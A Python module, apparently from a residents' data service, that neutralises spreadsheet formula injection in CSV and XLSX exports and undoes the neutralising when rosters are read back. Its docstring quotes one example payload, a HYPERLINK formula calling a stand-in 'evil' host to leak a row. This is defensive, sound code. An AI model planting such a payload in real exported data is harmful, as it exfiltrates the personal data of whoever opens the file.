"""Every CSV and XLSX the service writes goes through here, so no exported value can run as a formula.

A spreadsheet treats a cell that begins with = + - @ (or a tab or carriage return before them) as a formula:
a resident named `=HYPERLINK("http://evil/?"&A1)` would leak the row of whoever opens the file. CSV cells of
text that begin so get a leading apostrophe (OWASP's advice; Excel and WPS show the text, not the quote);
XLSX cells of text are written as inline strings, never as formulas. Numbers, dates and empty cells pass as
they are. Reading a CSV back (rosters) takes the apostrophe off again: `restore`.
"""

import csv
import io
from collections.abc import Callable, Iterable
from datetime import date, datetime
from pathlib import Path

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.utils import get_column_letter

from geo.core.private_files import write_private

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"  # UTF-8 with BOM: Excel in China opens it as UTF-8, not GB18030


def neutral(value):
    """A CSV cell's value that no spreadsheet evaluates."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def restore(value):
    """The value `neutral` was given, from a cell read back."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


def csv_text(header: list[str], rows: Iterable[list], progress: Callable[[int], None] = lambda n: None) -> str:
    """The header and rows as CSV text (with BOM), every cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([neutral(h) for h in header])
    for row in rows:
        writer.writerow([neutral(v) for v in row])
        progress(1)
    return BOM + out.getvalue()


def xlsx_bytes(header: list[str], rows: Iterable[list], title: str = "sheet",
               progress: Callable[[int], None] = lambda n: None) -> bytes:
    """The header and rows as one XLSX sheet; text always as text."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(title[:31])
    for i, text in enumerate(header, 1):
        sheet.column_dimensions[get_column_letter(i)].width = max(10, len(str(text)) * 2)
    sheet.append([_cell(sheet, h) for h in header])
    for row in rows:
        sheet.append([_cell(sheet, v) for v in row])
        progress(1)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _cell(sheet, value):
    """A write-only cell; text is typed as a string so a leading = is not taken for a formula."""
    if isinstance(value, datetime) and value.tzinfo is not None:
        value = value.isoformat()  # Excel has no time zones: keep the offset readable
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def table_bytes(header: list[str], rows: Iterable[list], fmt: str, title: str = "sheet",
                progress: Callable[[int], None] = lambda n: None) -> bytes:
    """The rows as `fmt` (csv or xlsx)."""
    if fmt == "xlsx":
        return xlsx_bytes(header, rows, title, progress)
    return csv_text(header, rows, progress).encode("utf-8")


def write_table(path: Path, header: list[str], rows: Iterable[list], title: str = "sheet", *,
                private: bool = False) -> None:
    """Write a .xlsx or .csv by the file's name; `private` files (personal data) are readable by their owner only,
    from their first byte on."""
    path = Path(path)
    content = table_bytes(header, rows, "xlsx" if path.suffix.lower() == ".xlsx" else "csv", title)
    if private:
        write_private(path, content)
    else:
        path.write_bytes(content)


def plain(value):
    """Lists as 、-joined text, days as ISO dates: how the sheets show them."""
    if isinstance(value, list):
        return "、".join(value)
    if isinstance(value, date):
        return value.isoformat()
    return value
